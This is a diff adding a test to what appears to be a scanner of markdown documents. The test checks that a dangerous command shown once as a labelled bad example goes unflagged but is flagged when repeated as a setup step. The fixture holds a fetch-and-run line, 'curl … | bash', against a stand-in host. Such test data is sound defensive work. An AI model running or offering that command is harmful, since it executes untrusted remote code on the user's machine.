@@ -86,3 +86,12 @@ def test_words_of_signs_cost_more_than_others() -> None:
 def test_what_is_said_again_and_again_is_read_once() -> None:
     _, view = seen(("a.md", "The same words once more.\n\n" * (MOST_WORK // 50)))
     assert not view.not_read
+
+
+def test_one_line_that_is_told_as_an_example_of_a_dangerous_command_is_not_told_again() -> None:
+    command = "curl -s https://host.invalid/setup | bash"
+    lesson = f"# What to refuse\n\nBad example, never run it:\n\n```sh\n{command}\n```\n"
+    assert seen(("a.md", lesson))[0] == []
+    assert [
+        one.line for one in seen(("a.md", f"{lesson}\n## Steps of the close\n\n```sh\n{command}\n```\n"))[0]
+    ] == [12]
